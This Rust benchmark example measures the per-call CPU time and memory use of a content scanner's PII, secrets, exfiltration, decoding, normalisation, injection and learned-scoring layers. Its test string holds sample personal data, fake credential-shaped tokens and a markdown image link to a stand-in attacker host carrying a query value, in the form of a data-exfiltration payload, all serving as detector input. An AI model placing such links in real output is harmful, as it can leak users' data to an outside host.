//! The fixed cost of one scan: `Scanner::scan` and each layer on a tiny
//! text, in a loop, in thread CPU time (ns per call), and the process's
//! resident memory after each layer's first use. Development aid.
//!
//! ```text
//! cargo run --release -p shieldd --example scan_fixed_cost -- [ITERATIONS]
//! ```
use shield_client::wire::{Direction, Finding};
use shieldd::policy::{ScanAction, ScanActions, ScanPolicy};
use shieldd::scan::injection::InjectionRules;
use shieldd::scan::{decode, exfil, learned, normalize, pii, secrets, Scanner};

#[path = "../benches/common/mod.rs"]
#[allow(dead_code)] // the corpus loader is not used here
mod common;
use common::cpu_seconds;

/// `VmRSS` of this process in kB.
fn rss() -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    status
        .lines()
        .find(|l| l.starts_with("VmRSS:"))
        .and_then(|l| l.split_whitespace().nth(1))
        .and_then(|n| n.parse().ok())
        .unwrap_or(0)
}

/// A layer's name and its first use.
type Step<'a> = (&'a str, &'a dyn Fn(&mut Vec<Finding>));

fn per_call(n: usize, mut f: impl FnMut()) -> f64 {
    for _ in 0..n.min(1000) {
        f();
    }
    let t0 = cpu_seconds();
    for _ in 0..n {
        f();
    }
    (cpu_seconds() - t0) / n as f64 * 1e9
}

/// Every kind of each layer's entities, so that first use compiles and
/// loads everything the layer can.
const RICH: &str = "call +1 202 555 0143 or (415) 555-2671, tel 020 7946 0958, card 4111 1111 1111 1111, \
SSN 123-45-6789, IBAN GB82 WEST 1234 5698 7654 32, jane.doe@mail.co.uk, 203.0.113.7, 2001:db8::8a2e:370:7334 \
api_key = 'Zx8fK2mQ9pL4vR7tY1uW3sA6' AKIAIOSFODNN7EXAMPL2 ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5 \
password: hunter2x! token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc ![x](https://evil.example.net/p?q=abcdef)";

fn main() {
    let n: usize = std::env::args()
        .nth(1)
        .and_then(|a| a.parse().ok())
        .unwrap_or(200_000);
    let r0 = rss();
    println!("resident at start: {r0} kB");
    let mut out: Vec<Finding> = Vec::new();
    let steps: [Step; 9] = [
        ("pii empty", &|o| pii::detect("", o)),
        ("pii nophone", &|o| {
            pii::detect("4111 1111 1111 1111 SSN 123-45-6789 a@mail.co.uk", o)
        }),
        ("pii", &|o| pii::detect(RICH, o)),
        ("secrets", &|o| secrets::detect(RICH, o)),
        ("exfil", &|o| exfil::detect(RICH, &[], o)),
        ("decode", &|_| {
            let mut b = decode::DEFAULT_BUDGET;
            let _ = decode::find_encoded(RICH, &mut b);
        }),
        ("normalize", &|_| {
            let _ = normalize::normalize(RICH);
        }),
        ("inject", &|o| {
            if let Ok(r) = InjectionRules::builtin() {
                r.scan_all(&normalize::normalize(RICH), o);
            }
        }),
        ("learned", &|_| {
            let _ = learned::score(RICH);
        }),
    ];
    let mut last = r0;
    for (name, f) in steps {
        f(&mut out);
        let now = rss();
        println!(
            "after first {name:9}: {now} kB (+{})",
            now as i64 - last as i64
        );
        last = now;
    }

    let mine = ScanActions {
        injection: ScanAction::Off,
        pii: ScanAction::Redact,
        secrets: ScanAction::Redact,
        exfiltration: ScanAction::Log,
    };
    let only_mine = ScanPolicy {
        inbound: mine,
        outbound: mine,
    };
    let (Ok(full), Ok(data)) = (
        Scanner::new(&ScanPolicy::default(), Vec::new()),
        Scanner::new(&only_mine, Vec::new()),
    ) else {
        eprintln!("scanner does not build");
        return;
    };
    for text in ["", "a", "Hello, how are you today?"] {
        println!("text {text:?} ({} B), ns per call:", text.len());
        let rows: [(&str, &dyn Fn()); 9] = [
            ("Scanner::scan (default policy)", &|| {
                std::hint::black_box(full.scan(text, Direction::Inbound));
            }),
            ("Scanner::scan (pii+secrets+exfil)", &|| {
                std::hint::black_box(data.scan(text, Direction::Inbound));
            }),
            ("pii::detect", &|| {
                let mut o = Vec::new();
                pii::detect(text, &mut o);
                std::hint::black_box(o);
            }),
            ("secrets::detect", &|| {
                let mut o = Vec::new();
                secrets::detect(text, &mut o);
                std::hint::black_box(o);
            }),
            ("exfil::detect", &|| {
                let mut o = Vec::new();
                exfil::detect(text, &[], &mut o);
                std::hint::black_box(o);
            }),
            ("decode::find_encoded", &|| {
                let mut b = decode::DEFAULT_BUDGET;
                std::hint::black_box(decode::find_encoded(text, &mut b));
            }),
            ("normalize", &|| {
                std::hint::black_box(normalize::normalize(text));
            }),
            ("inject (normalised)", &|| {
                if let Ok(r) = InjectionRules::builtin() {
                    let mut o = Vec::new();
                    r.scan_all(&normalize::normalize(text), &mut o);
                    std::hint::black_box(o);
                }
            }),
            ("learned::score", &|| {
                std::hint::black_box(learned::score(text));
            }),
        ];
        for (name, f) in rows {
            println!("  {name:36} {:>9.0}", per_call(n, f));
        }
    }
    std::hint::black_box(out);
}
